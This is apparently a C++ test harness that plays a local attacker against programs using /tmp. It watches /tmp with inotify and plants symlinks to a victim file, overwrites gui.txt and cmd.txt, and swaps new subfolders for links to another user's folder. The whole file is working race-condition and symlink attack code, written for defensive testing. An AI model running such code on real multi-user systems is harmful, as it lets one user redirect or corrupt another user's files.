// An attacker for tests/attacker/planted-links.sh: run as an unprivileged
// user, it watches /tmp with inotify and, in every new folder it may write
// to (and in new folders inside those), at once plants
//   - a link to VICTIM under each of NAMES,
//   - a copy of TEXT as gui.txt, replacing whatever another user wrote there,
//   - a link to VICTIM in place of any cmd.txt another user writes there,
// and swaps every new subfolder for a link to VAULT (the victim's folder).
// Each success goes to LOG as one line; it runs until killed.
//
//   link_planter LOG VICTIM VAULT TEXT NAMES...
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <sys/inotify.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <map>
#include <string>
#include <vector>

namespace {

FILE* logFile = nullptr;
std::string victim, vault, text;
std::vector<std::string> names;

void note(const char* what, const std::string& path) {
  fprintf(logFile, "%s %s\n", what, path.c_str());
  fflush(logFile);
}

std::string join(const std::string& dir, const std::string& name) {
  std::string p = dir;
  p += '/';
  p += name;
  return p;
}

bool endsWith(const std::string& s, const char* tail) {
  const size_t n = strlen(tail);
  return s.size() >= n && s.compare(s.size() - n, n, tail) == 0;
}

// Replaces path with a link to target (made beside it, then renamed over it).
bool linkOver(const std::string& path, const std::string& target) {
  const std::string tmp = path + ".planted";
  if (symlink(target.c_str(), tmp.c_str()) != 0) return false;
  if (rename(tmp.c_str(), path.c_str()) != 0) {
    unlink(tmp.c_str());
    return false;
  }
  return true;
}

// Replaces path with a copy of the text file.
bool textOver(const std::string& path) {
  const std::string tmp = path + ".planted";
  const int in = open(text.c_str(), O_RDONLY | O_CLOEXEC);
  if (in < 0) return false;
  const int out = open(tmp.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
  bool ok = out >= 0;
  char buf[4096];
  ssize_t n;
  while (ok && (n = read(in, buf, sizeof buf)) > 0)
    ok = write(out, buf, static_cast<size_t>(n)) == n;
  close(in);
  if (out >= 0) close(out);
  if (ok && rename(tmp.c_str(), path.c_str()) == 0) return true;
  unlink(tmp.c_str());
  return false;
}

int inotifyFd = -1;
int topWatch = -1;
std::map<int, std::string> watched;
std::map<std::string, int> watchOf;
constexpr uint32_t kMask = IN_CREATE | IN_MOVED_TO | IN_CLOSE_WRITE | IN_ATTRIB;

// Swaps a folder inside a writable folder of someone else's for a link to
// the vault.
bool swap(const std::string& path) {
  if (rename(path.c_str(), (path + ".gone").c_str()) != 0) return false;
  if (symlink(vault.c_str(), path.c_str()) != 0) return false;
  note("swap", path);
  return true;
}

void plantIn(const std::string& dir);

// Watches a folder once it may be read, plants in it once it may be written
// to, and goes on with the folders it already holds.
void explore(const std::string& dir) {
  if (watchOf.count(dir) != 0) return;
  const int wd = inotify_add_watch(inotifyFd, dir.c_str(), kMask);
  if (wd < 0) return;
  watched[wd] = dir;
  watchOf[dir] = wd;
  plantIn(dir);
  const bool writable = access(dir.c_str(), W_OK | X_OK) == 0;
  std::vector<std::string> subs;
  if (DIR* d = opendir(dir.c_str())) {
    while (dirent* e = readdir(d)) {
      const std::string n = e->d_name;
      if (e->d_type == DT_DIR && n != "." && n != ".." && !endsWith(n, ".gone")) subs.push_back(n);
    }
    closedir(d);
  }
  for (const std::string& n : subs) {
    const std::string sub = join(dir, n);
    if (!(writable && swap(sub))) explore(sub);
  }
}

void plantIn(const std::string& dir) {
  if (access(dir.c_str(), W_OK | X_OK) != 0) return;
  for (const std::string& n : names) {
    const std::string p = join(dir, n);
    if (symlink(victim.c_str(), p.c_str()) == 0) note("link", p);
  }
  if (textOver(dir + "/gui.txt")) note("text", dir + "/gui.txt");
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 5) {
    fprintf(stderr, "usage: link_planter LOG VICTIM VAULT TEXT NAMES...\n");
    return 2;
  }
  logFile = fopen(argv[1], "ae");
  if (logFile == nullptr) return 2;
  victim = argv[2];
  vault = argv[3];
  text = argv[4];
  for (int i = 5; i < argc; ++i) names.emplace_back(argv[i]);

  inotifyFd = inotify_init1(IN_CLOEXEC);
  if (inotifyFd < 0) return 2;
  topWatch = inotify_add_watch(inotifyFd, "/tmp", IN_CREATE | IN_MOVED_TO | IN_ATTRIB);
  if (topWatch < 0) return 2;
  watched[topWatch] = "/tmp";
  watchOf["/tmp"] = topWatch;
  note("watching", "/tmp");

  alignas(inotify_event) char buf[64 * 1024];
  for (;;) {
    const ssize_t len = read(inotifyFd, buf, sizeof buf);
    if (len <= 0) continue;
    for (char* p = buf; p < buf + len;) {
      const auto* ev = reinterpret_cast<const inotify_event*>(p);
      p += sizeof(inotify_event) + ev->len;
      auto w = watched.find(ev->wd);
      if (w == watched.end() || ev->len == 0) continue;
      const std::string parent = w->second;
      const std::string name = ev->name;
      const std::string path = join(parent, name);
      if (endsWith(name, ".planted") || endsWith(name, ".gone")) continue;
      const bool parentWritable = access(parent.c_str(), W_OK | X_OK) == 0;
      if ((ev->mask & IN_ISDIR) != 0) {
        if (ev->wd != topWatch && parentWritable && (ev->mask & (IN_CREATE | IN_MOVED_TO)) != 0 &&
            swap(path)) {
          continue;
        }
        if (watchOf.count(path) == 0) {
          explore(path);
        } else if ((ev->mask & IN_ATTRIB) != 0) {
          plantIn(path);  // perhaps opened up just now
        }
      } else if (name == "cmd.txt" && parentWritable &&
                 (ev->mask & (IN_CREATE | IN_CLOSE_WRITE)) != 0) {
        if (linkOver(path, victim)) note("link", path);
      } else if (name == "gui.txt" && parentWritable && (ev->mask & IN_CLOSE_WRITE) != 0) {
        if (textOver(path)) note("text", path);
      }
    }
  }
}
